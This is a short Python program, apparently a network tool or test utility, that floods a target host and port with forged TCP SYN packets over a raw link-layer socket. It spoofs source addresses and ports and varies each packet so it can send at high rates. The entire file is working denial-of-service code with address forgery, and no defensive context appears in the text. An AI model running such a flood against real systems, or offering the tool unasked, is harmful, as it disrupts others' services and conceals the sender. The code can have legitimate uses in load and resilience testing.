#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""flood.py DEVICE LINK SOURCE TARGET PORT RATE SECONDS: a flood of forged SYNs.

Sends SYNs from DEVICE to the link-layer address LINK, for port PORT of TARGET, RATE in a second or as
many as it manages, from addresses that differ from SOURCE in their last two bytes, and from as many
ports. Stops after so many seconds, or at SIGTERM, and prints how many there were.
"""

import ipaddress
import signal
import socket
import struct
import sys
import time

# Two fields that make up for each other in every checksum have this sum.
ONES = 0xFFFF


def ones_sum(data):
    """The folded one's complement sum."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & ONES) + (total >> 16)
    return total


def with_checksum(head, place, pseudo=b""):
    """A header with its checksum."""
    checksum = ones_sum(pseudo + head) ^ ONES
    return head[:place] + struct.pack("!H", checksum) + head[place + 2:]


class Syns:
    """SYNs of which none is like another, in one buffer, without a checksum to be worked out."""

    def __init__(self, link, own, source, target, port):
        source, target = ipaddress.ip_address(source), ipaddress.ip_address(target)
        self.is_four = source.version == 4
        kind, length = (b"\x08\0", 34) if self.is_four else (b"\x86\xdd", 54)
        # The last word of the address and the port begin as number 0 has them.
        base = source.packed[:-2] + b"\0\0"
        pseudo = base + target.packed + struct.pack("!II", 20, 6)
        head = struct.pack("!HHIIBBHHH", ONES, port, 1, 0, 0x50, 2, 8192, 0, 0)
        tcp = with_checksum(head, 16, pseudo)
        if self.is_four:
            head = struct.pack("!BBHHHBBH", 0x45, 0, 40, ONES, 0x4000, 64, 6, 0) + base + target.packed
            ip = with_checksum(head, 10)
        else:
            ip = struct.pack("!IHBB", 6 << 28, 20, 6, 64) + base + target.packed
        self.frame = bytearray(bytes.fromhex(link.replace(":", "")) + own + kind + ip + tcp)
        self.address, self.identification, self.port = length - (6 if self.is_four else 18), 18, length

    def number(self, number):
        """The SYN of this number, of 64,512."""
        word = number % 0xFC00
        struct.pack_into("!H", self.frame, self.address, word)
        struct.pack_into("!H", self.frame, self.port, ONES - word)
        if self.is_four:
            struct.pack_into("!H", self.frame, self.identification, ONES - word)
        return self.frame


def main(device, link, source, target, port, rate, seconds):
    """Sends."""
    rate, seconds = int(rate), float(seconds)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as wire:
        wire.bind((device, 0))
        own = wire.getsockname()[4]
        syns = Syns(link, own, source, target, int(port))
        begin = time.monotonic()
        sent = 0
        asked = []
        signal.signal(signal.SIGTERM, lambda *_: asked.append(True))
        while not asked and (elapsed := time.monotonic() - begin) < seconds:
            due = min(int(elapsed * rate), sent + 256)
            if due <= sent:
                time.sleep(0.002)
            while sent < due:
                try:
                    wire.send(syns.number(sent))
                except OSError:
                    # The queue is full.
                    time.sleep(0.001)
                sent += 1
        print(sent, flush=True)


main(*sys.argv[1:])
